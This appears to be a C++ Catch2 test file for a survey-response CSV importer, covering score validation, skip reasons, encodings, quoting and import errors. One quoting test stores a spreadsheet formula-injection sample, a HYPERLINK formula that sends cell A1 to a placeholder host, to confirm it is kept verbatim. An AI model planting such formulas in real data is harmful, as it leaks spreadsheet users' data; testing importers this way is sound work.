// Tests for response_importer: the real garden-centre export end to end, and small files for H02, quoting and errors.
#include <catch2/catch.hpp>

#include <filesystem>
#include <fstream>
#include <map>
#include <random>
#include <sstream>

#include "import/import_error.hpp"
#include "import/response_importer.hpp"
#include "import/row_identity.hpp"
#include "metrics/score_summary.hpp"
#include "store/metrics_query.hpp"

using namespace opinia;
using namespace opinia::import;

namespace {

constexpr std::int64_t imported_at = 1'772'407'800'000;  // 2026-03-01T23:30:00Z

// A SQLite file in the temp directory, removed with its WAL files afterwards.
struct temp_database {
    std::filesystem::path path;
    std::unique_ptr<store::database> db;

    temp_database() {
        std::random_device random;
        path = std::filesystem::temp_directory_path() / ("opinia-import-test-" + std::to_string(random()) + ".db");
        db = std::make_unique<store::database>(store::database_settings{path.string()});
    }
    ~temp_database() {
        db.reset();
        for (const char* suffix : {"", "-wal", "-shm"}) std::filesystem::remove(path.string() + suffix);
    }
};

std::string read_file(const std::string& path) {
    std::ifstream in(path, std::ios::binary);
    std::ostringstream buffer;
    buffer << in.rdbuf();
    return buffer.str();
}

const store::answer_record* find_step(const std::vector<store::answer_record>& answers, const std::string& step) {
    for (const auto& a : answers)
        if (a.step == step) return &a;
    return nullptr;
}

store::answer_filter flow_filter(const std::string& flow) {
    store::answer_filter f;
    f.flow = flow;
    return f;
}

response_import_options small_options() {
    response_import_options o;
    o.file = "small.csv";
    o.flow = "survey";
    o.scores = {parse_score_mapping("nps=score")};
    o.comment_column = "comment";
    o.missing_tokens = {"NA"};
    o.imported_at_ms = imported_at;
    return o;
}

// The independent reading of the real file: every line holds one row (no comment spans lines, checked
// below), and the fields before the comment hold no comma, so a split on the first commas suffices.
struct direct_count {
    std::int64_t rows = 0, rows_without_answers = 0, comments = 0;
    std::map<int, std::int64_t> nps, satisfaction;
};

direct_count count_directly(const std::string& content) {
    direct_count c;
    std::istringstream lines(content);
    std::string line;
    std::getline(lines, line);  // header
    while (std::getline(lines, line)) {
        ++c.rows;
        std::vector<std::string> head;
        std::size_t start = 0;
        for (int k = 0; k < 5; ++k) {
            const auto comma = line.find(',', start);
            head.push_back(line.substr(start, comma - start));
            start = comma + 1;
        }
        const bool comment_missing = line.compare(start, 3, "NA,") == 0;
        if (head[2] != "NA") ++c.nps[std::stoi(head[2])];
        if (head[3] != "NA") ++c.satisfaction[std::stoi(head[3])];
        if (!comment_missing) ++c.comments;
        if (head[2] == "NA" && head[3] == "NA" && comment_missing) ++c.rows_without_answers;
    }
    return c;
}

}  // namespace

TEST_CASE("The real garden-centre export imports with its NPS, CSAT and French comments", "[import][real]") {
    const std::string file = OPINIA_SHARED_DIR "/data/fr-garden-nps/nps.csv";
    const auto content = read_file(file);
    REQUIRE(content.size() > 0);
    const auto expected = count_directly(content);
    REQUIRE(expected.rows == 13954);

    temp_database t;
    response_import_options o;
    o.file = file;
    o.flow = "garden";
    o.scores = {parse_score_mapping("nps=nps"), parse_score_mapping("csat=satisfaction:1-10")};
    o.comment_column = "explication";
    o.encoding = text_encoding::latin1;
    o.missing_tokens = {"NA"};
    o.imported_at_ms = imported_at;
    const auto report = import_responses(o, *t.db);

    // 13,954 read, 13,950 imported, 4 skipped with nothing answered (cross-checked with Python's csv module).
    CHECK(report.rows_read == expected.rows);
    CHECK(report.rows_skipped == expected.rows_without_answers);
    CHECK(report.rows_imported == expected.rows - expected.rows_without_answers);
    CHECK(report.skipped_by_kind.size() == 1);
    CHECK(report.skipped_by_kind.at("no answer in any mapped column") == expected.rows_without_answers);

    std::int64_t n = 0, promoters = 0, detractors = 0;
    for (const auto& [value, count] : expected.nps) {
        n += count;
        if (value >= 9) promoters += count;
        if (value <= 6) detractors += count;
    }
    std::int64_t csat_n = 0, satisfied = 0, csat_sum = 0;
    for (const auto& [value, count] : expected.satisfaction) {
        csat_n += count;
        csat_sum += value * count;
        if (value >= 8) satisfied += count;
    }
    std::int64_t nps_answers = 0;
    for (const auto& [value, count] : expected.nps) nps_answers += count;
    CHECK(report.answers_written == nps_answers + csat_n + expected.comments);

    store::metrics_query query(*t.db);
    const auto counts = query.score_counts(flow_filter("garden"));
    const auto summary = metrics::summarize_scores(counts);
    // NPS 53.4161 (n 13,612: 8,465 promoters, 1,194 detractors), cross-checked with Python.
    CHECK(summary.nps.n == n);
    CHECK(summary.nps.promoters == promoters);
    CHECK(summary.nps.detractors == detractors);
    CHECK(*summary.nps.score() == Approx(100.0 * static_cast<double>(promoters - detractors) / static_cast<double>(n)));
    CHECK(*summary.nps.score() == Approx(53.4161).margin(1e-4));
    for (int v = 0; v <= 10; ++v) CHECK(summary.nps.distribution[v] == (expected.nps.count(v) ? expected.nps.at(v) : 0));
    // CSAT on 1-10, satisfied 8-10: 77.787 % (n 13,893, 10,807 satisfied), mean 8.349.
    const auto& csat = summary.csat.answers;
    CHECK(csat.n() == csat_n);
    CHECK(csat.good() == satisfied);
    CHECK(*csat.percent() == Approx(100.0 * static_cast<double>(satisfied) / static_cast<double>(csat_n)));
    CHECK(*csat.mean() == Approx(static_cast<double>(csat_sum) / static_cast<double>(csat_n)));
    CHECK(csat.scale() == metrics::score_scale{1, 10});

    // Every imported row is found under its stable id, with a "why" exactly when it had a comment.
    store::response_store responses(*t.db);
    const auto digest = file_digest(content);
    std::int64_t why_answers = 0;
    for (std::int64_t row = 1; row <= expected.rows; ++row)
        why_answers += find_step(responses.answers_of(imported_conversation_id("garden", digest, row)), "why") ? 1 : 0;
    CHECK(why_answers == expected.comments);
    CHECK(responses.answer_count() == report.answers_written);
    SECTION("accents come out as UTF-8, the DOS ones too") {
        const auto row2 = responses.answers_of(imported_conversation_id("garden", digest, 2));
        const auto* why2 = find_step(row2, "why");
        REQUIRE(why2);
        CHECK(why2->question_type == "text");
        CHECK_THAT(*why2->text, Catch::Matchers::StartsWith("Il y a tr\xc3\xa8s peu de caisse ouverte et le d\xc3\xa9lai"));
        const auto* nps2 = find_step(row2, "nps");
        REQUIRE(nps2);
        CHECK(nps2->value == 7);
        CHECK(nps2->scale_min == 0);
        CHECK(nps2->scale_max == 10);
        CHECK(nps2->parse_method == "import");
        const auto* csat2 = find_step(row2, "csat");
        REQUIRE(csat2);
        CHECK(csat2->good_from == 8);

        const auto row4 = responses.answers_of(imported_conversation_id("garden", digest, 4));
        const auto* why4 = find_step(row4, "why");
        REQUIRE(why4);
        CHECK_THAT(*why4->text, Catch::Matchers::Contains("pour \xc3\xa9" "change"));

        const auto conversation = responses.find_conversation(imported_conversation_id("garden", digest, 4));
        REQUIRE(conversation);
        CHECK(conversation->source == "import");
        CHECK(conversation->status == "completed");
        CHECK(conversation->created_at_ms == imported_at);
    }
    SECTION("importing the same file again adds nothing") {
        const auto before = responses.answer_count();
        const auto again = import_responses(o, *t.db);
        CHECK(again.rows_imported == report.rows_imported);
        CHECK(responses.answer_count() == before);
        CHECK(metrics::summary_json(query.score_counts(flow_filter("garden"))) == metrics::summary_json(counts));
    }
}

TEST_CASE("H02: scores that are not whole numbers inside the scale skip their row, naming the column", "[import][H02]") {
    const std::string csv =
        "id,score,comment\n"
        "a,9,great\n"
        "b,6.5,meh\n"
        "c,11,too high\n"
        "d,-1,too low\n"
        "e,,empty is not NA\n"
        "f,NA,only a comment\n"
        "g,0,zero is an answer\n"
        "h, 10 ,padded\n"
        "i,nine,words\n";
    store::database db({":memory:"});
    store::response_store responses(db);
    const auto report = import_responses(csv, small_options(), responses);

    CHECK(report.rows_read == 9);
    CHECK(report.rows_imported == 4);  // a, f, g, h
    CHECK(report.rows_skipped == 5);
    REQUIRE(report.skipped.size() == 5);
    struct expected_skip {
        std::int64_t row;
        const char* reason_part;
    };
    const std::vector<expected_skip> skips{
        {2, "column \"score\": \"6.5\" is not a whole number on 0-10"},
        {3, "column \"score\": \"11\" is outside the 0-10 scale"},
        {4, "column \"score\": \"-1\" is outside the 0-10 scale"},
        {5, "column \"score\": empty cell"},
        {9, "column \"score\": \"nine\" is not a whole number"},
    };
    for (std::size_t i = 0; i < skips.size(); ++i) {
        CHECK(report.skipped[i].row == skips[i].row);
        CHECK(report.skipped[i].line == skips[i].row + 1);
        CHECK_THAT(report.skipped[i].reason, Catch::Matchers::Contains(skips[i].reason_part));
    }
    CHECK(report.skipped_by_kind.at("column \"score\": outside 0-10") == 2);
    CHECK(report.skipped_by_kind.at("column \"score\": not a whole number") == 2);

    // Nothing invalid was stored: the NPS is from 9, 0 and 10 only, and 0 counts (H01).
    const auto summary = metrics::summarize_scores(store::metrics_query(db).score_counts({}));
    CHECK(summary.nps.n == 3);
    CHECK(summary.nps.distribution[0] == 1);
    CHECK(summary.nps.detractors == 1);

    std::ostringstream printed;
    write_report(printed, report);
    CHECK_THAT(printed.str(), Catch::Matchers::Contains("rows read: 9"));
    CHECK_THAT(printed.str(), Catch::Matchers::Contains("row 2 (line 3): column \"score\": \"6.5\""));
}

TEST_CASE("Without --missing, only the empty cell means not answered", "[import][missing]") {
    auto o = small_options();
    o.missing_tokens = {""};
    store::database db({":memory:"});
    store::response_store responses(db);
    const auto report = import_responses("id,score,comment\na,,fine\nb,NA,\n", o, responses);
    CHECK(report.rows_imported == 1);
    CHECK(report.rows_skipped == 1);
    CHECK_THAT(report.skipped.at(0).reason, Catch::Matchers::Contains("\"NA\" is not a whole number"));
}

TEST_CASE("Quoted comments keep their commas, quotes, line breaks and formulas verbatim", "[import][csv]") {
    const std::string csv =
        "id;score;comment\r\n"
        "a;9;\"Good; fast, \"\"friendly\"\"\r\nsecond line\"\r\n"
        "b;3;\"=HYPERLINK(\"\"http://x.invalid/?d=\"\"&A1,\"\"open\"\")\"\r\n"
        "c;10;\"\"\r\n";
    auto o = small_options();
    o.delimiter = ';';
    store::database db({":memory:"});
    store::response_store responses(db);
    const auto report = import_responses(csv, o, responses);
    REQUIRE(report.rows_imported == 3);
    const auto digest = file_digest(csv);

    const auto a = responses.answers_of(imported_conversation_id("survey", digest, 1));
    REQUIRE(find_step(a, "why"));
    CHECK(*find_step(a, "why")->text == "Good; fast, \"friendly\"\r\nsecond line");
    const auto b = responses.answers_of(imported_conversation_id("survey", digest, 2));
    REQUIRE(find_step(b, "why"));
    CHECK(*find_step(b, "why")->text == "=HYPERLINK(\"http://x.invalid/?d=\"&A1,\"open\")");
    // An empty comment is no comment.
    const auto c = responses.answers_of(imported_conversation_id("survey", digest, 3));
    CHECK(c.size() == 1);
    CHECK_FALSE(find_step(c, "why"));
}

TEST_CASE("Malformed rows are skipped with a reason, the rest imported", "[import]") {
    const std::string csv =
        "id,score,comment\n"
        "a,9\n"                       // too few fields
        "b,8,ok,extra\n"              // too many
        "c,7,caf\xe9\n"               // Latin-1 byte in a UTF-8 file
        "d,10,\xc3\xa9t\xc3\xa9\n"    // valid UTF-8
        "e,NA,NA\n"                   // nothing answered
        "f,5,\"never closed\n";
    store::database db({":memory:"});
    store::response_store responses(db);
    const auto report = import_responses(csv, small_options(), responses);
    CHECK(report.rows_read == 6);
    CHECK(report.rows_imported == 1);
    CHECK(report.skipped_by_kind.at("wrong number of fields") == 2);
    CHECK(report.skipped_by_kind.at("column \"comment\": not valid UTF-8") == 1);
    CHECK(report.skipped_by_kind.at("no answer in any mapped column") == 1);
    CHECK(report.skipped_by_kind.at("a quoted field is never closed") == 1);
    CHECK_THAT(report.skipped.at(0).reason, Catch::Matchers::Contains("has 2 fields, the header has 3"));
}

TEST_CASE("CSAT and CES columns with their scales, customer and date", "[import]") {
    const std::string csv =
        "\xEF\xBB\xBFwhen,who,nps,sat,effort\n"
        "2026-03-01T23:30:00Z,cust-1,9,5,7\n"
        "2026-03-02,cust-2,NA,3,4\n"
        "yesterday,cust-3,9,5,7\n"
        "NA,NA,8,NA,NA\n";
    auto o = small_options();
    o.scores = {parse_score_mapping("nps=nps"), parse_score_mapping("csat=sat"), parse_score_mapping("ces=effort:1-7")};
    o.comment_column.clear();
    o.customer_column = "who";
    o.date_column = "when";
    store::database db({":memory:"});
    store::response_store responses(db);
    const auto report = import_responses(csv, o, responses);
    CHECK(report.rows_imported == 3);
    REQUIRE(report.rows_skipped == 1);
    CHECK_THAT(report.skipped.at(0).reason,
               Catch::Matchers::Contains("column \"when\": \"yesterday\" is not an ISO 8601 date"));

    const auto digest = file_digest(csv);
    const auto first = responses.find_conversation(imported_conversation_id("survey", digest, 1));
    REQUIRE(first);
    CHECK(first->customer_id == "cust-1");
    CHECK(first->created_at_ms == 1'772'407'800'000);
    const auto first_answers = responses.answers_of(first->id);
    REQUIRE(find_step(first_answers, "ces"));
    CHECK(find_step(first_answers, "ces")->good_from == 5);
    CHECK(find_step(first_answers, "csat")->scale_max == 5);
    CHECK(find_step(first_answers, "csat")->good_from == 4);
    CHECK(find_step(first_answers, "nps")->customer_id == "cust-1");
    const auto second = responses.find_conversation(imported_conversation_id("survey", digest, 2));
    CHECK(second->created_at_ms == 1'772'409'600'000);
    const auto fourth = responses.find_conversation(imported_conversation_id("survey", digest, 4));
    CHECK(fourth->created_at_ms == imported_at);  // a missing date is the import's time
    CHECK(fourth->customer_id.empty());

    const auto j = metrics::summary_json(store::metrics_query(db).score_counts(flow_filter("survey")));
    CHECK(j.at("csat").at("percent").get<double>() == Approx(50.0));
    CHECK(j.at("ces").at("percent_easy").get<double>() == Approx(50.0));
    CHECK(j.at("nps").at("n") == 2);
}

TEST_CASE("Small batches commit every row", "[import]") {
    std::string csv = "id,score,comment\n";
    for (int i = 0; i < 23; ++i) csv += "r" + std::to_string(i) + "," + std::to_string(i % 11) + ",x\n";
    auto o = small_options();
    o.batch_rows = 5;
    store::database db({":memory:"});
    store::response_store responses(db);
    const auto report = import_responses(csv, o, responses);
    CHECK(report.rows_imported == 23);
    CHECK(responses.answer_count() == 46);
}

TEST_CASE("Imports that cannot start throw and write nothing", "[import][errors]") {
    store::database db({":memory:"});
    store::response_store responses(db);
    const std::string csv = "id,score,comment\na,9,x\n";
    auto unknown_column = small_options();
    unknown_column.scores = {parse_score_mapping("nps=recommend")};
    CHECK_THROWS_WITH(import_responses(csv, unknown_column, responses),
                      Catch::Matchers::Contains("no column \"recommend\"") && Catch::Matchers::Contains("\"score\""));
    auto unknown_comment = small_options();
    unknown_comment.comment_column = "why";
    CHECK_THROWS_AS(import_responses(csv, unknown_comment, responses), import_error);
    auto twice = small_options();
    twice.scores.push_back(parse_score_mapping("nps=id"));
    CHECK_THROWS_AS(import_responses(csv, twice, responses), import_error);
    auto no_flow = small_options();
    no_flow.flow.clear();
    CHECK_THROWS_AS(import_responses(csv, no_flow, responses), import_error);
    CHECK_THROWS_AS(import_responses("", small_options(), responses), import_error);
    CHECK(responses.answer_count() == 0);

    auto missing_file = small_options();
    missing_file.file = "/nonexistent/opinia/file.csv";
    CHECK_THROWS_AS(import_responses(missing_file, db), import_error);
}
